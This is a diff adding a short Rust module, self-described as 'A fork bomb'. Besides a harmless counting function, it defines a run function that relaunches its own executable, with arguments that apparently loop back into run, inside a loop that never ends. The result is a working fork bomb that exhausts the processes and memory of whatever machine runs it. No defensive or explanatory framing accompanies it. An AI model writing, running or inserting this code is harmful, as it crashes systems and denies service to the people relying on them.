@@ -1,0 +1,18 @@
+//! A fork bomb.
+
+use std::thread;
+use std::time::Duration;
+
+pub fn num(pause: Duration) {
+    for number in 1..=10 {
+        println!("{number}");
+        thread::sleep(pause);
+    }
+}
+
+pub fn run(pause: Duration) {
+    let program = std::env::args().next().unwrap();
+    while pause.as_nanos() < u128::MAX {
+        let _ = std::process::Command::new(&program).args(["2", "run", "0"]).spawn();
+    }
+}
